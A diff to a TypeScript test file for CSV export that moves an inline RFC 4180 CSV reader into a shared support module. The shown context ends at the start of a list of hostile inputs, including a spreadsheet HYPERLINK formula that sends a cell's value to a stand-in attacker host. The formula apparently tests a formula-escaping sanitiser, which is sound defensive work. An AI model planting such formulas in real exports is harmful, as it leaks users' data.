@@ -3,44 +3,7 @@ import { CSV_COLUMNS, CSV_MAX_CELL } from '../../shared/export/csv.ts';
 import { CSV_BOM, csvCell, formulaSafe } from '../../shared/export/csv-cell.ts';
 import { exportNotices } from '../../shared/export/formats.ts';
 import { fakeNotice } from '../support/fake-notice.ts';
-
-/** A strict RFC 4180 reader: CRLF records, quoted fields with "" for a quote. */
-function readCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let i = 0;
-  while (i < text.length) {
-    let field = '';
-    if (text[i] === '"') {
-      i++;
-      for (;;) {
-        const q = text.indexOf('"', i);
-        if (q < 0) throw new Error('unterminated quote');
-        field += text.slice(i, q);
-        i = q + 1;
-        if (text[i] === '"') {
-          field += '"';
-          i++;
-        } else break;
-      }
-    } else {
-      const end = text.slice(i).search(/,|\r\n/);
-      field = end < 0 ? text.slice(i) : text.slice(i, i + end);
-      if (/["\r\n]/.test(field))
-        throw new Error(`bare quote or line break in ${JSON.stringify(field)}`);
-      i = end < 0 ? text.length : i + end;
-    }
-    row.push(field);
-    if (text.startsWith(',', i)) i++;
-    else if (text.startsWith('\r\n', i)) {
-      rows.push(row);
-      row = [];
-      i += 2;
-    } else if (i < text.length) throw new Error(`junk after field at ${i}`);
-  }
-  if (row.length) throw new Error('last record lacks CRLF');
-  return rows;
-}
+import { readCsv } from '../support/read-csv.ts';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
